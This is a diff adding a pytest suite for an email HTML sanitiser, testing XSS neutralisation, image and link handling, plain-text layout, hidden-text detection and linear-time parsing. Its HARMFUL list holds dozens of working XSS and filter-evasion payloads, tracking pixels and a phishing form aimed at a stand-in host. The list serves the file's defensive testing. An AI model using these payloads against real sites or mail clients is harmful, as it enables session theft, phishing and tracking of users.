@@ -1,0 +1,236 @@
+"""HTML mail made harmless, and as text."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from inbox.html import sanitise
+
+HARMFUL = [
+    "<script>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.example/p.gif" width=1 height=1>',
+    '<img srcset="//evil.example/x 2x">',
+    '<img src="cid:logo" alt="Logo">',
+    '<picture><source srcset="//evil.example/x"><img src=y></picture>',
+    "<svg onload=alert(1)><image href=//evil.example/x></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="file:///etc/passwd">x</a>',
+    '<a href="//evil.example">x</a>',
+    '<a href="/local">x</a>',
+    '<a href="https://ok.example" onclick="alert(1)" style="x" ping="//evil.example">x</a>',
+    '<a href="https://ok.example/&quot;onmouseover=&quot;alert(1)">x</a>',
+    '<a href="https://ok.example/<img src=x onerror=alert(1)>">x</a>',
+    "<form action=//evil.example><input name=p type=password><button>Go</button></form>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "<style>body{background:url(//evil.example/x)}</style>",
+    "<style>@import url(//evil.example/x.css);</style>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    '<meta http-equiv=refresh content="0;url=//evil.example">',
+    '<base href="//evil.example/">',
+    "<div style=\"background-image:url('//evil.example/x')\">x</div>",
+    '<div style="width:expression(alert(1))">x</div>',
+    "<table background=//evil.example/x><td background=//evil.example/y>x</table>",
+    "<video poster=//evil.example/x src=//evil.example/y autoplay></video>",
+    "<audio src=//evil.example/y></audio>",
+    "<iframe src=//evil.example srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data=//evil.example/x><embed src=//evil.example/y></object>",
+    "<applet code=x></applet>",
+    "<frameset><frame src=//evil.example></frameset>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "<body onload=alert(1) background=//evil.example/x>x",
+    "<template><script>alert(1)</script></template>",
+    "<p title='<img src=x onerror=alert(1)>'>x</p>",
+    '<p dir="&quot;><script>alert(1)</script>">x</p>',
+    '<td colspan="1&quot; onclick=&quot;x">x</td>',
+    "<b/onmouseover=alert(1)//x>x",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<img src=`javascript:alert(1)`>",
+    '<img alt="<script>alert(1)</script>" src=x>',
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<plaintext><script>alert(1)</script>",
+    "<select><option><img src=x onerror=alert(1)></select>",
+    "<a href='https://ok.example' target=_self rel=opener>x</a>",
+    "<img src=x\x00onerror=alert(1)>",
+    "<<img src=x onerror=alert(1)>>",
+    "<img src='x' alt=''><p",
+]
+TAGS = {
+    "a", "abbr", "address", "article", "aside", "b", "bdi", "big", "blockquote", "br",
+    "caption", "center", "cite", "code", "col", "colgroup", "dd", "del", "details", "dfn",
+    "div", "dl", "dt", "em", "figcaption", "figure", "font", "footer", "h1", "h2", "h3",
+    "h4", "h5", "h6", "header", "hr", "i", "ins", "kbd", "li", "main", "mark", "nav", "ol",
+    "p", "pre", "q", "s", "samp", "section", "small", "span", "strike", "strong", "sub",
+    "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "tt", "u", "ul",
+    "var", "wbr",
+}  # fmt: skip
+ATTRIBUTES = {"href", "rel", "target", "colspan", "rowspan", "dir", "lang", "start", "class"}
+
+
+class Inspector(HTMLParser):
+    """Collects whatever should not be in safe HTML."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.bad: list[tuple[str, str, str | None]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in TAGS:
+            self.bad.append((tag, "", None))
+        for name, value in attrs:
+            link = name == "href" and not re.match("https?://|mailto:", value or "")
+            marked = name == "class" and value != "image-blocked"
+            if name not in ATTRIBUTES or link or marked:
+                self.bad.append((tag, name, value))
+
+
+def bad_parts(html: str) -> list[tuple[str, str, str | None]]:
+    inspector = Inspector()
+    inspector.feed(html)
+    inspector.close()
+    return inspector.bad
+
+
+@pytest.mark.parametrize("html", HARMFUL)
+def test_nothing_harmful_is_left(html: str):
+    assert bad_parts(sanitise(f"<p>before</p>{html}<p>after</p>").html) == []
+
+
+@pytest.mark.parametrize("html", HARMFUL)
+def test_what_is_safe_stays_safe_when_cleaned_again(html: str):
+    once = sanitise(html).html
+    assert bad_parts(sanitise(once).html) == []
+
+
+def test_images_are_visible_placeholders():
+    safe = sanitise('<img src="https://x.example/a.png" alt="A &lt;b&gt;"><img src="cid:1">')
+    assert safe.html == (
+        '<span class="image-blocked">[image: A &lt;b&gt;]</span>'
+        '<span class="image-blocked">[image]</span>'
+    )
+    assert safe.remote_images == 1
+    assert safe.text == "[image: A <b>]"
+
+
+def test_links_open_apart_and_are_listed():
+    safe = sanitise('<a href="https://x.example/a?b=1&amp;c=2">the <b>offer</b></a>')
+    assert 'rel="noopener noreferrer" target="_blank"' in safe.html
+    assert safe.links == (("the offer", "https://x.example/a?b=1&c=2"),)
+    assert safe.text == "the offer <https://x.example/a?b=1&c=2>"
+
+
+def test_a_link_that_shows_its_target_is_written_once():
+    assert sanitise('<a href="mailto:a@x.example">a@x.example</a>').text == "a@x.example"
+    assert (
+        sanitise('<a href="https://x.example/">https://x.example</a>').text == "https://x.example"
+    )
+
+
+@pytest.mark.parametrize(
+    ("html", "text"),
+    [
+        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
+        ("<div>One</div><div>Two</div>", "One\nTwo"),
+        ("one<br>two<br><br>three", "one\ntwo\n\nthree"),
+        ("<ul><li>a<li>b<ol><li>c<li>d</ol></ul>", "- a\n- b\n  1. c\n  2. d"),
+        ("<ol start=1><li>a</li><li>b</li></ol>", "1. a\n2. b"),
+        ("<table><tr><th>Item<th>Price<tr><td>Chair<td>40</table>", "Item | Price\nChair | 40"),
+        ("<blockquote>old<blockquote>older</blockquote></blockquote>", "> old\n>\n> > older"),
+        ("<pre>a\n  b</pre>", "a\n  b"),
+        ("  a \n\n b&nbsp;c ", "a b c"),
+        ("a<hr>b", "a\n--------------------\nb"),
+        ("x &lt;tag&gt; &amp; y", "x <tag> & y"),
+        ("<h1>Title</h1>text", "Title\n\ntext"),
+        ("<b>bo</b>ld", "bold"),
+        ("in\u200bvi\u202esible", "invisible"),
+        ("", ""),
+    ],
+)
+def test_text_is_laid_out(html: str, text: str):
+    assert sanitise(html).text == text
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<p style="display:none">x</p>',
+        '<p style="DISPLAY : NONE !important">x</p>',
+        '<p style="display:/**/none">x</p>',
+        '<p style="visibility:hidden">x</p>',
+        '<p style="font-size:0">x</p>',
+        '<p style="font-size:1px">x</p>',
+        '<p style="opacity:0">x</p>',
+        '<p style="color:#fff">x</p>',
+        '<p style="color:#fefefe">x</p>',
+        "<font color=white>x</font>",
+        '<div bgcolor="#000"><p style="color:black">x</p></div>',
+        '<p style="color:transparent">x</p>',
+        '<p style="position:absolute;left:-9999px">x</p>',
+        '<p style="text-indent:-500px">x</p>',
+        '<p style="max-height:0;overflow:hidden">x</p>',
+        '<p style="mso-hide:all">x</p>',
+        "<p hidden>x</p>",
+        "<style>.gone{display:none}</style><p class=gone>x</p>",
+        "<style>p#it, b{visibility:hidden}</style><p id=it>x</p>",
+        '<div style="display:none"><p style="display:block">x</p></div>',
+    ],
+)
+def test_text_that_would_not_be_seen_is_shown_and_said(html: str):
+    safe = sanitise(f"before {html}")
+    assert safe.hidden_text
+    assert safe.text.endswith("x")
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<p>x</p>",
+        '<p style="color:#333;font-size:14px;opacity:.8">x</p>',
+        '<div style="font-size:0"><p style="font-size:14px">x</p></div>',
+        "<body bgcolor=black><font color=white>x</font>",
+        '<div style="background:#000"><p style="color:#fff">x</p></div>',
+        '<div style="background:url(x)"><p style="color:#fff">x</p></div>',
+        '<div style="display:none">&nbsp;&zwnj;</div>x',
+        "<style>@media print{.m{display:none}}</style><p class=m>x</p>",
+    ],
+)
+def test_text_that_is_seen_is_not_called_hidden(html: str):
+    assert not sanitise(html).hidden_text
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<div>" * 100_000,
+        "<blockquote>" * 50_000,
+        "<ul><li>" * 50_000,
+        "<div></b>" * 50_000,
+        "<p><font color=1></p>" * 20_000,
+        "<a " * 100_000,
+        "<p " + "a=b " * 50_000 + ">",
+        "<p " + " ".join(f"a{number}=b" for number in range(50_000)) + ">",
+        "<style>" * 50_000,
+        "<style>" + "/*" * 50_000 + "</style>",
+        "<style>" + "a," * 50_000 + "</style>",
+        "<body " * 50_000,
+        "&" * 100_000,
+        "<" * 100_000,
+        "<p>Hello <b>big</b> world</p>\n" * 20_000,
+    ],
+)
+def test_deep_and_long_documents_take_linear_time(html: str):
+    assert len(sanitise(html + "the end").html) < 2_000_000
